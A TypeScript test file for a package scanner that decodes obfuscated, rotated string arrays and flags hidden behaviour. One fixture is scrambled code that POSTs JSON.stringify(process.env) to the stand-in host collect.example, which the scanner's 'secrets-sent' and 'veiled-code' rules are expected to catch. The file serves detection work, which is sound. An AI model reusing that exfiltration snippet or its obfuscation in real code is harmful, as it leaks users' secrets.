/** Strings of a turned array are told as the program itself would give them, and nothing else is taken for one. */
import { runInNewContext } from 'node:vm';
import { describe, expect, test } from 'vitest';
import { check } from '../../src/check.ts';
import { parse } from '../../src/code/tree/parse.ts';
import { link } from '../../src/code/tree/scope.ts';
import { stringsDecoded } from '../../src/code/tree/string-arrays.ts';
import { loadRules } from '../../src/load-rules.ts';
import { cpuOf } from '../support/cpu.ts';
import { type Coding, scrambled } from '../support/scrambled.ts';
import { packageOf } from '../world.ts';

const STRINGS = ['https://stats.example/v1', 'child_process', 'naïve “ß” 漢字', 'env', '', 'x'];
const EACH = STRINGS.map((_, at) => `«${at}»`).join(',');

function decoded(source: string): readonly string[] {
  const parsed = parse('x.cjs', source, false);
  if (!parsed.ok) throw new Error(parsed.reason);
  return stringsDecoded(link(parsed.file));
}

describe.each<Coding>(['plain', 'base64', 'rc4'])('%s', (coding) => {
  const strings = coding === 'rc4' ? STRINGS.filter((text) => !/[^\x20-\x7e]/.test(text)) : STRINGS;
  const each = strings.map((_, at) => `«${at}»`).join(',');
  test.each([
    ['turned until a sum fits', {}],
    ['not turned at all', { turned: 0 }],
    ['turned nearly round', { turned: strings.length + 4 }],
    ['through a function that moves the index', { wrapped: true }],
    ['turned by counting', { counts: true }],
    ['with nothing that turns it', { still: true }],
    ['a plain array with nothing that turns it', { still: true, counts: true }],
  ])('%s', (_, more) => {
    const source = scrambled({ coding, strings, code: `result = [${each}];`, ...more });
    // Ours, and inert: what it really gives.
    const world: { result?: unknown } = {};
    runInNewContext(source.replace(/^/, 'var result;'), world);
    expect(world.result).toEqual(strings);
    expect(decoded(source)).toEqual(expect.arrayContaining(strings));
  });
});

describe('every rule sees what was decoded', async () => {
  const rules = await loadRules();
  const findings = (code: string) =>
    check(rules, { kind: 'package', package: packageOf({ name: '', code }), root: true }).value;

  test.each<readonly [Coding, boolean]>([
    ['plain', false],
    ['base64', false],
    ['rc4', false],
    ['plain', true],
    ['rc4', true],
  ])('%s, still: %s', (coding, still) => {
    const source = scrambled({
      coding,
      still,
      strings: ['https', 'https://collect.example/x', 'POST', 'request', 'end', 'stringify', 'env'],
      code: 'const r=require(«0»)[«3»](«1»,{method:«2»});r[«4»](JSON[«5»](process[«6»]));',
    });
    const found = findings(source);
    expect(found.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(['secrets-sent', ...(still ? [] : ['veiled-code'])]),
    );
    if (still) return;
    const scrambling = found.find(({ message }) => message.startsWith('was scrambled'));
    expect(scrambling?.evidence.map(({ note, snippet }) => [note, snippet])).toContainEqual([
      'decoded',
      expect.stringContaining('https://collect.example/x'),
    ]);
  });
});

describe('nothing is told', () => {
  test.each([
    ['of a sum that never fits', (source: string) => source.replace(/\}\(_0xarr,-?[\d.]+\)\);/, '}(_0xarr,0x7));')],
    ['of an array that something is put into', (source: string) => source.replace('const _0xv=[', 'const _0xv=[x(),')],
    ['without a loop that turns', (source: string) => source.replaceAll("'shift'", "'slice'")],
  ])('%s', (_, change) => {
    const source = scrambled({ coding: 'base64', strings: STRINGS, code: `f(${EACH})` });
    const changed = change(source);
    expect(changed).not.toBe(source);
    expect(decoded(changed)).toEqual([]);
  });

  test.each([
    ['is changed by others', "list.push('e');"],
    ['is handed on', 'change(list);'],
    ['is told by another function', 'const all=()=>list;'],
  ])('of an array that %s', (_, more) => {
    const code = `const list=['a','b','c','d'];const at=(i)=>{i=i-1;return list[i]};f(at(1));`;
    expect(decoded(code)).toEqual(['a']);
    expect(decoded(code + more)).toEqual([]);
  });

  test('of what is made of an element', () => {
    const code = "const list=['a','b','c'];const at=(i)=>{i=i-1;return list[i].length};f(at(1))";
    expect(decoded(code)).toEqual([]);
  });

  test('of a queue that is turned honestly', () => {
    const code =
      "const hosts=['a.example','b.example','c.example'];(function(list,n){for(let i=0;i<n;i++)list.push(list.shift())})(hosts,2);const pick=(i)=>hosts[i];f(pick(1))";
    expect(decoded(code)).toEqual([]);
  });
});

test('a large one is told in bounded time', () => {
  const strings = Array.from({ length: 4_000 }, (_, at) => `text ${at}`);
  const source = scrambled({ coding: 'rc4', strings, turned: 3_500, code: 'f(«7»,«3999»)' });
  const work = cpuOf(() => {
    expect(decoded(source)).toEqual(expect.arrayContaining(['text 7', 'text 3999']));
  });
  expect(work).toBeLessThan(10_000);
});
